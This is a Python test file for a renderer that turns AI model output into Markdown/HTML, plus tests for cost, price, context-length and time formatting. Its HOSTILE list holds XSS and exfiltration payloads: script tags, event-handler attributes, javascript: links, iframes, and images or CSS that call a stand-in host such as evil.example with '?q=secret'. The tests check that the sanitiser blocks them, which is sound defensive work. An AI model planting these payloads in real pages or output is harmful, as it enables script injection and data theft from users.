"""Model output rendering (docs/security.md, "Model output") and the number/time formats the UI shows."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser

import pytest

from frontend.rendering import (
    format_context,
    format_cost,
    format_duration,
    format_price_per_million,
    format_relative,
    render_markdown,
)

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/?q=secret" onerror="alert(1)">',
    "![x](https://evil.example/?q=secret)",
    "![x](//evil.example/pixel.png)",
    "![x](http://127.0.0.1:1/steal)",
    '[click](javascript:alert(1))',
    "<a href=\"javascript:alert(1)\">x</a>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<svg onload=alert(1)><circle/></svg>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    '<div style="background:url(https://evil.example/x)">x</div>',
    "[![x](https://evil.example/i.png)](https://evil.example)",
    "![x][ref]\n\n[ref]: https://evil.example/ref.png",
    "<details open ontoggle=alert(1)>",
    "```html\n<script>alert(1)</script>\n```",
]


class _Elements(HTMLParser):
    """Collects the real elements of an HTML fragment (escaped text is not an element)."""

    def __init__(self) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))


def _elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser.elements


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_runs_no_script_and_loads_nothing_remote(text: str) -> None:
    html = str(render_markdown(text))
    for tag, attrs in _elements(html):
        assert tag not in {"script", "iframe", "svg", "style", "object", "embed", "details", "div", "link"}
        assert not [name for name in attrs if name.startswith("on") or name == "style"], (tag, attrs)
        if tag == "img":
            assert (attrs.get("src") or "").startswith(("data:image/", "/assets/")), attrs
        if tag == "a":
            assert (attrs.get("href") or "").startswith(("https://", "http://", "mailto:", "#")), attrs
    assert "evil.example/?q=secret" not in html or "&lt;" in html  # a URL may only survive as escaped text


def test_script_tags_are_shown_as_text() -> None:
    html = str(render_markdown("Look: <script>alert(1)</script>"))
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


def test_remote_images_are_replaced_by_a_note_without_the_url() -> None:
    html = str(render_markdown("![chart](https://evil.example/?q=secret-data)"))
    assert "image withheld: chart" in html
    assert "evil.example" not in html
    assert "secret-data" not in html


def test_inline_data_images_and_own_assets_are_kept() -> None:
    html = str(render_markdown("![a](data:image/png;base64,iVBORw0KGgo=) ![b](/assets/abc_123)"))
    assert '<img src="data:image/png;base64,iVBORw0KGgo=" alt="a">' in html
    assert '<img src="/assets/abc_123" alt="b">' in html


def test_svg_data_images_and_asset_path_tricks_are_dropped() -> None:
    html = str(render_markdown("![a](data:image/svg+xml;base64,PHN2Zz4=) ![b](/assets/../etc/passwd)"))
    assert "<img" not in html


def test_ordinary_markdown_renders() -> None:
    html = str(render_markdown("# Title\n\n**bold** and `code`\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n"
                               "```python\nx = 1\n```\n\n[docs](https://example.org)"))
    assert "<h1>Title</h1>" in html
    assert "<strong>bold</strong>" in html
    assert "<code>code</code>" in html
    assert "<table>" in html and "<td>2</td>" in html  # alignment styles are dropped (CSP)
    assert '<code class="language-python">' in html
    assert '<a href="https://example.org" rel="noopener noreferrer nofollow">docs</a>' in html


def test_empty_output_renders_nothing() -> None:
    assert str(render_markdown(None)) == ""
    assert str(render_markdown("")) == ""


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (0.00014, "$0.000140"),
        ("0.00014", "$0.000140"),
        (0, "$0.00"),
        (0.0123, "$0.0123"),
        (0.25, "$0.25"),
        (0.123, "$0.123"),
        (0.1, "$0.10"),
        (12.5, "$12.50"),
        (1234.5, "$1,234.50"),
        (None, "—"),
        ("n/a", "—"),
    ],
)
def test_costs(value, expected: str) -> None:
    assert format_cost(value) == expected


@pytest.mark.parametrize(
    ("per_token", "expected"),
    [
        ("0.0000025", "$2.50/M"),
        ("0.00000015", "$0.15/M"),
        ("0.0000006", "$0.60/M"),
        ("0.000000075", "$0.075/M"),
        ("0.00015", "$150/M"),
        ("0", "free"),
        ("-1", "varies"),
        (None, "—"),
    ],
)
def test_prices_per_million_tokens(per_token, expected: str) -> None:
    assert format_price_per_million(per_token) == expected


def test_context_lengths() -> None:
    assert format_context(128000) == "128k"
    assert format_context(1_000_000) == "1M"
    assert format_context(4096) == "4.096k"
    assert format_context(None) == "—"


def test_relative_and_elapsed_times() -> None:
    now = datetime(2026, 1, 1, 12, 0, 0, tzinfo=UTC)
    assert format_relative((now + timedelta(seconds=95)).isoformat(), now=now) == "in 1 min"
    assert format_relative((now - timedelta(seconds=30)).isoformat(), now=now) == "30 s ago"
    assert format_relative("2026-01-01T12:00:00Z", now=now) == "now"
    assert format_duration("2026-01-01T12:00:00Z", "2026-01-01T12:00:01.4Z") == "1.4 s"
    assert format_duration("2026-01-01T12:00:00", "2026-01-01T12:02:05") == "2 min 5 s"
    assert format_duration(None, "2026-01-01T12:00:00Z") == "—"


def test_fields_missing_from_a_record_render_as_dashes() -> None:
    """A queued or cancelled record may have an empty ``usage``: templates must not fail on it."""
    from jinja2 import Environment

    from frontend.rendering import format_tokens

    env = Environment(autoescape=True)
    env.filters.update(tokens=format_tokens, cost=format_cost, context=format_context)
    template = env.from_string("{{ u.prompt_tokens | tokens }} {{ u.cost_usd | cost }} {{ u.x | context }}")
    assert template.render(u={}) == "— — —"


def test_answers_keep_single_line_breaks_headings_lists_tables_and_code() -> None:
    html = str(render_markdown("## Menu\nTea\nCoffee\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
                               "> quoted\n\n```python\nprint('<b>hi</b>')\n```\n<b>raw</b>"))
    assert "<h2>Menu</h2>" in html and "Tea<br>\nCoffee" in html
    assert "<li>one</li>" in html and "<td>1</td>" in html and "<blockquote>" in html
    assert '<code class="language-python">' in html and "&lt;b&gt;hi&lt;/b&gt;" in html
    assert "<b>raw</b>" not in html  # raw HTML is still shown as text
